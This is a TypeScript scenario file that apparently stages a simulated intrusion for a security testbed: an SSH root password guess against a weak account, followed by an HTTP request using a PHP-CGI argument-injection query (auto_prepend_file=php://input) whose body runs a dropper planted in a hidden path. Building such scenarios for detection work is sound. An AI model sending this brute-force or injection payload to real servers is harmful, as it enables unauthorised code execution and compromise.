// She works from home today and mistypes twice; it was not her.
import type { Dress } from '../../dress.ts'
import { dropper } from '../../dropper.ts'
import { vulnerablePhp } from '../../php.ts'
import type { Stage } from '../../stage.ts'
import { weak, weakRoot } from '../../weak-root.ts'

export function dress(dress: Dress): void {
  weakRoot(dress)
  vulnerablePhp(dress)
}

export async function plant(stage: Stage): Promise<void> {
  await stage.guess('198.51.100.222', 'root', ['admin12', 'admin123 '])
  await stage.session('198.51.100.222', 'root', { password: weak }, ['uptime', 'df -h', 'systemctl status nginx --no-pager | head -5'])
  const line = dropper(stage, { path: '/var/tmp/.fpm/fpm-pool', cron: false })
  stage.mark('occurrence')
  await stage.http(
    '203.0.113.33',
    '/index.php?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    `<?php system(${JSON.stringify(line)}); ?>`,
  )
}
